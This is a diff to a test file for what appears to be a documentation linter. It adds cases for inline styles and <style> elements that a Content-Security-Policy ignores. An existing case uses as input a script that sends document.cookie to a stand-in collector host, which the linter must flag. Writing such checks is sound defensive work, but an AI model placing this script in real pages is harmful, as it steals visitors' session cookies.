@@ -396,6 +396,16 @@ const cases: Case[] = [
     expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/before&after.png" does not exist/ },
   },
   {
+    name: "an inline style in content (the policy ignores it)",
+    files: pageWith('Some <span style="color: red">red</span> text.'),
+    expected: { file: RAW_PAGE, line: 7, column: 12, severity: "warning", message: /^style="color: red" on <span> does nothing: the page's Content-Security-Policy allows only the site's own style sheets/ },
+  },
+  {
+    name: "a <style> element in content",
+    files: pageWith("<style>p { color: red }</style>"),
+    expected: { file: RAW_PAGE, line: 7, column: 1, severity: "warning", message: /^<style> in the page's content does nothing/ },
+  },
+  {
     name: "a <script> in a page's content",
     files: pageWith("<script>fetch('https://collector.example/?c=' + document.cookie)</script>"),
     expected: { file: RAW_PAGE, line: 7, column: 1, severity: "error", message: /^<script> in the page's content: pages may not run scripts of their own/ },
